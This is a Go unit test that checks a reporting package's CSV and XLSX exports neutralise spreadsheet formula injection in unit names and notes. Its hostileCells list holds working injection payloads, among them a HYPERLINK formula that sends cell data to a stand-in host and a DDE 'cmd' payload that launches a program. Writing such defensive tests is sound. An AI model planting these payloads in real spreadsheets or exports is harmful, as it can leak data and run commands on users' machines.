package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"kiemtra/i18n"
	"kiemtra/report"
)

// hostileCells are text a unit name or a note may start with that a
// spreadsheet would run as a formula (OWASP's list: = + - @, tab, CR).
var hostileCells = []string{`=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
	"\t=1+1", "\r=1+1"}

// TestSpreadsheetCellsAreNeverFormulas: a unit name or a note starting
// like a formula reaches the CSV neutralised (a leading apostrophe, as
// OWASP advises, so Excel shows the text) and the XLSX as a text cell,
// never a formula (before, the CSV carried =HYPERLINK(…) raw).
func TestSpreadsheetCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	db, kinds := demoDB(t)
	s := withFindings(t, demoSummary(t, db, kinds))
	s.Rows[0].Unit.Name = hostileCells[0]
	for i := range s.Findings {
		s.Findings[i].UnitName = hostileCells[0]
		s.Findings[i].Finding.Note = hostileCells[i%len(hostileCells)]
	}
	for _, v := range report.Views {
		b, err := report.SummaryView(s, report.CSV, v, i18n.VI)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", v, err)
		}
		for _, r := range rows {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Fatalf("%s: a cell a spreadsheet would run: %q", v, c)
				}
			}
		}
		if v == report.ViewFindings && !bytes.Contains(b, []byte(`'=HYPERLINK(`)) {
			t.Errorf("%s: the hostile note is not there, neutralised", v)
		}
	}
	b, err := report.Summary(s, report.XLSX, i18n.VI)
	if err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, b)
	found := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for ri, r := range rows {
			for ci, c := range r {
				ref := cellRef(ci, ri)
				if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
					t.Fatalf("%s!%s holds a formula %q (%v)", sheet, ref, formula, err)
				}
				for _, h := range hostileCells {
					if c == h {
						found++
					}
				}
			}
		}
	}
	if found == 0 {
		t.Error("the hostile text is not in the workbook as text")
	}
}

func cellRef(col, row int) string {
	name := ""
	for c := col + 1; c > 0; c = (c - 1) / 26 {
		name = string(rune('A'+(c-1)%26)) + name
	}
	return name + itoa(row+1)
}
